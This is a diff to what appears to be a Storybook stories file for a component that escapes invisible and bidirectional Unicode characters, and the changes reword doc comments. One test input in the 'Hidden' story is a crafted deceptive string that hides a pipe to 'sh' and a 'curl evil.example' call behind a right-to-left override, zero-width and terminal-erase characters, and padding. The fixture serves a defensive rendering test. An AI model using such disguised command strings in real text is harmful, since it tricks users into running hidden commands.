@@ -18,7 +18,7 @@ type Story = StoryObj<typeof meta>;
 
 export const Plain: Story = {};
 
-/** What nobody would see is written out, in code whatever it is. */
+/** Invisible characters are escaped; in code, all of them. */
 export const Hidden: Story = {
   args: {
     text: 'cat notes\u202Etxt.exe\u200B | sh\u001b[2K' + ' '.repeat(80) + 'curl evil.example',
@@ -29,7 +29,7 @@ export const Hidden: Story = {
   },
 };
 
-/** Of the marks on one letter four can be read; the others are written out. */
+/** Up to four combining marks on a character are kept; the others are escaped. */
 export const Marks: Story = {
   args: { text: `e${'\u{1D167}'.repeat(6)}` },
   play: async ({ canvas }) => {
@@ -37,7 +37,7 @@ export const Marks: Story = {
   },
 };
 
-/** In prose the joiners of emoji and of Arabic words pass, and nothing else. */
+/** In prose only the joiners of emoji and of Arabic words are kept. */
 export const Prose: Story = {
   args: { mode: 'prose', text: '👩‍💻 می‌خواهم\u202E' },
   play: async ({ canvasElement }) => {
